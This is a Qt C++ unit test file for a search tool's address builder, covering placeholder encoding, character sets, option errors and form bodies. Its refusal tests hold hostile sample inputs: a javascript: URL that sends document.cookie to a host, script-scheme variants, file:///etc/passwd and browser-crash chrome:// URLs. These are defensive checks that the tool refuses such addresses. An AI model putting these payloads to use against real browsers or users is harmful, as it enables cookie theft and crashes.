// SPDX-License-Identifier: GPL-3.0-or-later
// The address of a search: the term encoded for where each placeholder stands, the placeholder's
// options, and the checks before an address is opened.
#include "Address.h"
#include "EntryList.h"
#include "Error.h"
#include "Search.h"

#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QTest>

class TestAddress : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void table_data();
    void table();
    void placeholders_data();
    void placeholders();
    void optionErrors_data();
    void optionErrors();
    void webAddress_data();
    void webAddress();
    void refused_data();
    void refused();
    void encodedAddress_data();
    void encodedAddress();
    void formBodies_data();
    void formBodies();
    void serviceTooltip();
};

// The table of tests/data/address/addresses.json: its expected addresses were computed by
// Python's urllib (make_addresses.py), not by this program.
void TestAddress::table_data()
{
    QTest::addColumn<QString>("service");
    QTest::addColumn<QString>("term");
    QTest::addColumn<QString>("expected");
    QFile file(QStringLiteral(GL_TEST_DATA "/address/addresses.json"));
    QVERIFY(file.open(QIODevice::ReadOnly));
    const QJsonObject data = QJsonDocument::fromJson(file.readAll()).object();
    const QJsonObject services = data.value(u"services").toObject();
    const QJsonArray rows = data.value(u"rows").toArray();
    QVERIFY(rows.size() >= 40);
    QCOMPARE(services.size(), 7);
    int n = 0;
    for (const QJsonValue &row : rows) {
        const QString term = row[u"term"].toString();
        for (auto it = services.begin(); it != services.end(); ++it) {
            QVERIFY(row[it.key()].isString());
            QTest::addRow("%d %s: %s", n, qPrintable(it.key()), qPrintable(term.left(20)))
                    << it.value().toString() << term << row[it.key()].toString();
        }
        ++n;
    }
}

void TestAddress::table()
{
    QFETCH(QString, service);
    QFETCH(QString, term);
    QFETCH(QString, expected);
    const QString address = ComposeAddress(service, term);
    QCOMPARE(address, expected);
    // What the engine is given is that very text: no %XX or + of it is touched.
    if (!service.contains(u"raw"))
        QCOMPARE(EncodedAddress(address), expected.toLatin1());
}

// Placements and options beyond the table's (expected values from Python's urllib as well).
void TestAddress::placeholders_data()
{
    QTest::addColumn<QString>("service");
    QTest::addColumn<QString>("term");
    QTest::addColumn<QString>("expected");
    QTest::newRow("every placeholder") << "http://a/?q=|s|&x=|s|"
                                       << "red car"
                                       << "http://a/?q=red+car&x=red+car";
    QTest::newRow("path and query in one") << "http://a/|s|?q=|s|"
                                           << "a b"
                                           << "http://a/a%20b?q=a+b";
    QTest::newRow("fragment after the query") << "http://a/?x=1#q=|s|"
                                              << "a b"
                                              << "http://a/?x=1#q=a+b";
    QTest::newRow("fragment without a query") << "http://a/#q=|s|"
                                              << "a b"
                                              << "http://a/#q=a%20b";
    QTest::newRow("only the first ? counts") << "http://a/?p=|s|?q=|s|"
                                             << "a?b"
                                             << "http://a/?p=a%3Fb?q=a%3Fb";
    QTest::newRow("+ in the path") << "http://a/|s:+|"
                                   << "a b+c"
                                   << "http://a/a+b%2Bc";
    QTest::newRow("%20 and a set")
            << "http://a/?q=|s:shift_jis,%20|" << QStringLiteral(u"\u65e5\u672c \u8a9e")
            << "http://a/?q=%93%FA%96%7B%20%8C%EA";
    // ł is in JIS X 0212, which browsers read in EUC-JP but never send (as chromium sends it).
    QTest::newRow("set names ignore case")
            << "http://a/?q=|s:EUC-JP|" << QStringLiteral(u"\u65e5\u672c \u0416 \u0142")
            << "http://a/?q=%C6%FC%CB%DC+%A7%A8+%26%23322%3B";
    QTest::newRow("gbk") << "http://a/?q=|s:gbk|" << QStringLiteral(u"\u65e5\u672c \u0416 \u0142")
                         << "http://a/?q=%C8%D5%B1%BE+%A7%A8+%26%23322%3B";
    QTest::newRow("big5") << "http://a/?q=|s:big5|" << QStringLiteral(u"\u65e5\u672c \u0142")
                          << "http://a/?q=%A4%E9%A5%BB+%26%23322%3B";
    QTest::newRow("iso-8859-2") << "http://a/?q=|s:iso-8859-2|" << QStringLiteral(u"\u65e5 \u0142")
                                << "http://a/?q=%26%2326085%3B+%B3";
    // A set with shift states returns to ASCII for a reference and at the end of the term.
    QTest::newRow("shift states") << "http://a/?q=|s:iso-2022-jp|"
                                  << QStringLiteral(u"\u65e5\u672c \u00e9")
                                  << "http://a/?q=%1B%24BF%7CK%5C%1B%28B+%26%23233%3B";
    QTest::newRow("utf-8 named") << "http://a/?q=|s:utf-8|" << QStringLiteral(u"\u00e9 x")
                                 << "http://a/?q=%C3%A9+x";
    QTest::newRow("RAW in capitals") << "http://a/?q=|s:RAW|"
                                     << "a b&c"
                                     << "http://a/?q=a b&c";
    QTest::newRow("upper case is no placeholder") << "http://a/?q=|S|"
                                                  << "x"
                                                  << "http://a/?q=|S|";
    QTest::newRow("|s: never closed is text") << "http://a/?q=|s|&r=|s:raw"
                                              << "a b"
                                              << "http://a/?q=a+b&r=|s:raw";
    QTest::newRow("|s followed by other text") << "http://a/|sx|s|"
                                               << "a"
                                               << "http://a/|sxa";
    QTest::newRow("the term's own placeholder stays") << "|s|"
                                                      << "|s|"
                                                      << "%7Cs%7C";
    QTest::newRow("no placeholder") << "http://a/"
                                    << "x"
                                    << "http://a/";
    QTest::newRow("rest as stored") << "http://a/%7e%2b+ b?q=|s|&%zz"
                                    << "x"
                                    << "http://a/%7e%2b+ b?q=x&%zz";
}

void TestAddress::placeholders()
{
    QFETCH(QString, service);
    QFETCH(QString, term);
    QFETCH(QString, expected);
    QCOMPARE(ComposeAddress(service, term), expected);
}

void TestAddress::optionErrors_data()
{
    QTest::addColumn<QByteArray>("line");
    QTest::addColumn<QString>("message");
    const QString of = QStringLiteral("The placeholder |s:%1| of the service \"%2\"");
    const QString unknown = QStringLiteral(" holds the option \"%1\", which is neither raw, + nor "
                                           "%20 nor a character set that web browsers know");
    const QString conflict = QStringLiteral(" holds options that exclude each other (raw stands "
                                            "alone; one character set; + or %20)");
    QTest::newRow("unknown option")
            << QByteArray("Web=http://a/?q=|s:foo|") << of.arg("foo", "Web") + unknown.arg("foo");
    QTest::newRow("unknown set among others")
            << QByteArray("Web=http://a/?q=|s:%20,no-such-set|")
            << of.arg("%20,no-such-set", "Web") + unknown.arg("no-such-set");
    QTest::newRow("converter suffix")
            << QByteArray("Web=http://a/?q=|s:cp1251//TRANSLIT|")
            << of.arg("cp1251//TRANSLIT", "Web") + unknown.arg("cp1251//TRANSLIT");
    QTest::newRow("option text ends at the next |")
            << QByteArray("Web=http://a/?q=|s:raw&r=|s|")
            << of.arg("raw&r=", "Web") + unknown.arg("raw&r=");
    QTest::newRow("empty options")
            << QByteArray("Web=http://a/?q=|s:|") << of.arg("", "Web") + " holds an empty option";
    QTest::newRow("empty option") << QByteArray("Web=http://a/?q=|s:koi8-r,|")
                                  << of.arg("koi8-r,", "Web") + " holds an empty option";
    QTest::newRow("raw and a set") << QByteArray("Web=http://a/?q=|s:raw,koi8-r|")
                                   << of.arg("raw,koi8-r", "Web") + conflict;
    QTest::newRow("raw and +") << QByteArray("Web=http://a/?q=|s:+,raw|")
                               << of.arg("+,raw", "Web") + conflict;
    QTest::newRow("two sets") << QByteArray("Web=http://a/?q=|s:koi8-r,gbk|")
                              << of.arg("koi8-r,gbk", "Web") + conflict;
    QTest::newRow("+ and %20") << QByteArray("Web=http://a/?q=|s:+,%20|")
                               << of.arg("+,%20", "Web") + conflict;
    QTest::newRow("a line without a name") << QByteArray("xhttp://a/|s:zz|")
                                           << of.arg("zz", "xhttp://a/|s:zz|") + unknown.arg("zz");
}

// A bad option stops Go with an error naming the service and the option, whatever the term.
void TestAddress::optionErrors()
{
    QFETCH(QByteArray, line);
    QFETCH(QString, message);
    for (const QString &term : {QString(), QStringLiteral("x")}) {
        try {
            const QString address = GoAddressFor(line, term);
            QFAIL(qPrintable(QStringLiteral("no error, address ") + address.left(100)));
        } catch (const CommandError &error) {
            QCOMPARE(error.message(), message);
        }
    }
}

void TestAddress::webAddress_data()
{
    QTest::addColumn<QByteArray>("line");
    QTest::addColumn<QString>("term");
    QTest::addColumn<QString>("expected");
    QTest::newRow("http") << QByteArray("W=http://a/?q=|s|") << "x"
                          << "http://a/?q=x";
    QTest::newRow("HTTPS") << QByteArray("W=HTTPS://a/?q=|s|") << "x"
                           << "HTTPS://a/?q=x";
    QTest::newRow("no scheme: http") << QByteArray("W=www.example.org/?q=|s|") << "a b"
                                     << "http://www.example.org/?q=a+b";
    QTest::newRow("host and port") << QByteArray("W=localhost:8080/?q=|s|") << "x"
                                   << "http://localhost:8080/?q=x";
    QTest::newRow("blanks around dropped") << QByteArray("W= \thttp://a/?q=|s:raw| ") << " x "
                                           << "http://a/?q= x";
    QTest::newRow("line without =") << QByteArray("xhttp://b/") << "t"
                                    << "http://b/";
    QTest::newRow("longest address")
            << QByteArray("W=http://a/?q=|s|") << QString(kLongestAddress - 12, u'a')
            << "http://a/?q=" + QString(kLongestAddress - 12, u'a');
}

void TestAddress::webAddress()
{
    QFETCH(QByteArray, line);
    QFETCH(QString, term);
    QFETCH(QString, expected);
    QCOMPARE(GoAddressFor(line, term), expected);
}

// Only http and https: anything else in a service (or put together with a raw term) is refused
// with an error naming the service.
void TestAddress::refused_data()
{
    QTest::addColumn<QByteArray>("line");
    QTest::addColumn<QString>("term");
    QTest::addColumn<QString>("message");
    const QString scheme = QStringLiteral("The service \"Evil\" opens a %1: address (\"%2\"); only "
                                          "http and https addresses are searched");
    const QString local = QStringLiteral("The service \"Evil\" opens \"%1\", which is not an http "
                                         "or https address; only those are searched");
    const QByteArray steal = "javascript:location='http://127.0.0.1/x?c='+document.cookie";
    QTest::newRow("javascript:") << "Evil=" + steal << "x"
                                 << scheme.arg("javascript", QString::fromUtf8(steal));
    QTest::newRow("long address shortened")
            << "Evil=" + steal + "&more=1"
            << "x" << scheme.arg("javascript", QString::fromUtf8(steal.left(57)) + "...");
    QTest::newRow("JavaScript: with blanks") << QByteArray("Evil= JavaScript:alert(1)") << "x"
                                             << scheme.arg("javascript", "JavaScript:alert(1)");
    QTest::newRow("tab inside the scheme") << QByteArray("Evil=java\tscript:alert(1)") << "x"
                                           << scheme.arg("javascript", "java\tscript:alert(1)");
    QTest::newRow("file:") << QByteArray("Evil=file:///etc/passwd") << "x"
                           << scheme.arg("file", "file:///etc/passwd");
    QTest::newRow("chrome://gpucrash") << QByteArray("Evil=chrome://gpucrash") << "x"
                                       << scheme.arg("chrome", "chrome://gpucrash");
    QTest::newRow("inducebrowsercrashforrealz")
            << QByteArray("Evil=CHROME://inducebrowsercrashforrealz") << "x"
            << scheme.arg("chrome", "CHROME://inducebrowsercrashforrealz");
    QTest::newRow("data:") << QByteArray("Evil=data:text/html,<b>|s|</b>") << "x"
                           << scheme.arg("data", "data:text/html,<b>x</b>");
    QTest::newRow("view-source:") << QByteArray("Evil=view-source:http://a/?q=|s|") << "x"
                                  << scheme.arg("view-source", "view-source:http://a/?q=x");
    QTest::newRow("about:") << QByteArray("Evil=about:blank") << "x"
                            << scheme.arg("about", "about:blank");
    QTest::newRow("scheme from a raw term") << QByteArray("Evil=|s:raw|") << "chrome://gpucrash"
                                            << scheme.arg("chrome", "chrome://gpucrash");
    QTest::newRow("local path") << QByteArray("Evil=/etc/passwd") << "x"
                                << local.arg("/etc/passwd");
    QTest::newRow("home path") << QByteArray("Evil=~/notes?q=|s|") << "x"
                               << local.arg("~/notes?q=x");
    QTest::newRow("relative path") << QByteArray("Evil=./x") << "x" << local.arg("./x");
    QTest::newRow("empty address") << QByteArray("Evil=") << "x" << local.arg("");
    QTest::newRow("too long") << QByteArray("Evil=http://a/?q=|s|")
                              << QString(kLongestAddress - 11, u'a')
                              << QStringLiteral("The service \"Evil\" makes an address of 2097153 "
                                                "characters; the browser pane opens addresses of "
                                                "up to 2097152 characters");
    QTest::newRow("too long once encoded")
            << QByteArray("Evil=http://a/?q=|s|") << QString(kLongestAddress / 6, QChar(0x416))
            << QStringLiteral("The service \"Evil\" makes an address of 2097162 characters; the "
                              "browser pane opens addresses of up to 2097152 characters");
}

void TestAddress::refused()
{
    QFETCH(QByteArray, line);
    QFETCH(QString, term);
    QFETCH(QString, message);
    EntryList services, terms;
    services.Append(line);
    terms.Append(term.toUtf8());
    terms.SelectLine(0);
    try {
        const std::optional<QString> address = GoAddress(services, terms);
        QFAIL(qPrintable(QStringLiteral("no error, address ")
                         + address.value_or(QString()).left(100)));
    } catch (const CommandError &error) {
        QCOMPARE(error.message(), message);
    }
}

void TestAddress::encodedAddress_data()
{
    QTest::addColumn<QString>("address");
    QTest::addColumn<QByteArray>("expected");
    QTest::newRow("ready-made") << "http://a/p%2Fq?x=%2B+%26&y=[1]#f"
                                << QByteArray("http://a/p%2Fq?x=%2B+%26&y=[1]#f");
    QTest::newRow("blanks and quotes")
            << "http://a/?q=a b\"<>\\^`{|}"
            << QByteArray("http://a/?q=a%20b%22%3C%3E%5C%5E%60%7B%7C%7D");
    QTest::newRow("lone percent signs") << "http://a/?q=100%&r=%2&s=%zz&t=%41"
                                        << QByteArray("http://a/?q=100%25&r=%252&s=%25zz&t=%41");
    QTest::newRow("non-ASCII as UTF-8") << QStringLiteral(u"http://a/\u00e9?q=\u65e5\U0001F600")
                                        << QByteArray("http://a/%C3%A9?q=%E6%97%A5%F0%9F%98%80");
    QTest::newRow("control characters")
            << "http://a/?q=\t\n\x7f" << QByteArray("http://a/?q=%09%0A%7F");
}

void TestAddress::encodedAddress()
{
    QFETCH(QString, address);
    QFETCH(QByteArray, expected);
    QCOMPARE(EncodedAddress(address), expected);
}

// A service's post= body: written as a query is, whatever its "?"s, by the placeholder's options.
void TestAddress::formBodies_data()
{
    QTest::addColumn<QString>("body");
    QTest::addColumn<QString>("term");
    QTest::addColumn<QByteArray>("expected");
    // clang-format off
    QTest::newRow("form") << "q=|s|&lang=en" << "a b&c=d" << QByteArray("q=a+b%26c%3Dd&lang=en");
    QTest::newRow("placeholder first") << "|s|" << "x y" << QByteArray("x+y");
    QTest::newRow("%20") << "q=|s:%20|" << "x y" << QByteArray("q=x%20y");
    QTest::newRow("legacy set") << "q=|s:windows-1251|" << QStringLiteral(u"\u041f\u0440 \u0416") << QByteArray("q=%CF%F0+%C6");
    QTest::newRow("raw, literal text encoded") << QStringLiteral(u"q=|s:raw|&x=\u00e9 %zz") << "a b" << QByteArray("q=a%20b&x=%C3%A9%20%25zz");
    // clang-format on
}

void TestAddress::formBodies()
{
    QFETCH(QString, body);
    QFETCH(QString, term);
    QFETCH(QByteArray, expected);
    QCOMPARE(ComposeFormBody(body, term), expected);
}

void TestAddress::serviceTooltip()
{
    EntryList services, terms;
    services.Append("Web=http://a/?q=|s|");
    services.Append("Evil=javascript:alert(1)");
    services.Append("Long=http://a/?q=" + QByteArray(150, 'x'));
    QCOMPARE(ServiceTooltip(services, 0, terms), QStringLiteral("Web=http://a/?q=|s|"));
    terms.Append("first");
    terms.Append("red car");
    QCOMPARE(ServiceTooltip(services, 0, terms),
             QStringLiteral("Web=http://a/?q=|s|\n\nWith \"first\" Go opens:\nhttp://a/?q=first"));
    terms.SelectLine(1);
    QCOMPARE(ServiceTooltip(services, 0, terms),
             QStringLiteral("Web=http://a/?q=|s|\n\nWith \"red car\" Go opens:\n"
                            "http://a/?q=red+car"));
    QCOMPARE(ServiceTooltip(services, 1, terms),
             QStringLiteral("Evil=javascript:alert(1)\n\nWith \"red car\" Go opens nothing:\n"
                            "The service \"Evil\" opens a javascript: address "
                            "(\"javascript:alert(1)\"); only http and https\n"
                            "addresses are searched"));
    // A long line is cut into lines a tooltip can show.
    const QStringList lines = ServiceTooltip(services, 2, terms).split(u'\n');
    QCOMPARE(lines.at(0).size(), 100);
    QCOMPARE(lines.at(1), QString(67, u'x'));
    QCOMPARE(lines.at(2), QString());
    services.Append("Form=http://a/s\tpost=q=|s|\tgroup=G");
    QCOMPARE(ServiceTooltip(services, 3, terms),
             QStringLiteral("Form=http://a/s\tpost=q=|s|\tgroup=G\n\nWith \"red car\" Go opens:\n"
                            "http://a/s\nand sends the form:\nq=red+car"));
}

QTEST_APPLESS_MAIN(TestAddress)
#include "tst_address.moc"
